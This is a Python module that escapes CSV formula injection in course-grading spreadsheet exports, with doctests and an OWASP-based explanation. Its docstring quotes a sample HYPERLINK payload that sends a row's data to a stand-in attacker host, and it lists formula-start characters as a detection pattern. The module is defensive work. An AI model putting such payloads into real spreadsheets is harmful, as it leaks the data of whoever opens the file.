"""Text cells made inert for a spreadsheet, so a learner's string never runs as a formula.

Instructors open the course's CSVs (grades, reports, LMS imports) in Excel,
LibreOffice or Google Sheets, which run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil.example/?"&A2, "Ana")`` as a learner's name sends the
row next to it away on a click (OWASP, "CSV Injection"). Learners choose some of
the strings that land in these files: their names (from a hub or an LMS), the
names of files they hand in (quoted in the reason a submission was not graded)
and the first bytes of a notebook that is not JSON.

What :func:`spreadsheet_safe` does to a text cell:

- a cell that would start a formula gets a leading ``'``, which every
  spreadsheet shows as "this is text" (OWASP's advice);
- a formula character right after a ``,``, ``;``, tab or line break inside the
  cell gets one too: a spreadsheet that splits lines on ``;`` (Excel in many
  European locales) or ignores quotes starts a new cell there (OWASP's caveat);
- a plain number written as text (``-2``, ``+1.5``, ``-3e2``) is left alone: a
  spreadsheet reads it as that number, and a negative score is not a formula.

Numeric columns are never touched: :func:`spreadsheet_frame` changes only text.

>>> spreadsheet_safe('=HYPERLINK("http://evil.example")')
'\\'=HYPERLINK("http://evil.example")'
>>> spreadsheet_safe("-2"), spreadsheet_safe("-2+3"), spreadsheet_safe("@SUM(A1)"), spreadsheet_safe("Ana Lopez")
('-2', "'-2+3", "'@SUM(A1)", 'Ana Lopez')
>>> spreadsheet_safe("the notebook y;=cmd.ipynb is a link"), spreadsheet_safe("Expecting ',' delimiter, line 1")
("the notebook y;'=cmd.ipynb is a link", "Expecting ',' delimiter, line 1")
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "runs_as_formula", "spreadsheet_frame", "spreadsheet_safe"]

#: A cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# A formula character just after a character that some spreadsheet takes as the end of a cell.
_AFTER_SEPARATOR = re.compile(r"(?<=[,;\t\r\n])(?=[=+\-@\t\r])")


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could run some part of ``cell`` as a formula.

    >>> runs_as_formula("=1+1"), runs_as_formula("-5"), runs_as_formula("a;@x"), runs_as_formula("a, -1")
    (True, False, True, False)
    """
    return spreadsheet_safe(cell) != cell


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text (see the module's text); plain numbers unchanged."""
    if _PLAIN_NUMBER.fullmatch(cell):
        return cell
    cell = _AFTER_SEPARATOR.sub("'", cell)
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name made :func:`spreadsheet_safe`.

    >>> import pandas as pd
    >>> frame = pd.DataFrame({"student_id": ["ana", "ben"], "first_name": ["=1+1", None], "score": [-2.5, 3.0]})
    >>> spreadsheet_frame(frame).to_dict("records")
    [{'student_id': 'ana', 'first_name': "'=1+1", 'score': -2.5}, {'student_id': 'ben', 'first_name': nan, 'score': 3.0}]
    """
    import pandas as pd

    safe = frame.copy()
    for column in safe.columns:
        if not (pd.api.types.is_object_dtype(safe[column]) or pd.api.types.is_string_dtype(safe[column])):
            continue  # numbers and booleans are written as such, never as formulas
        safe[column] = [spreadsheet_safe(value) if isinstance(value, str) else value for value in safe[column].tolist()]
    safe.columns = [spreadsheet_safe(name) if isinstance(name, str) else name for name in safe.columns]
    return safe
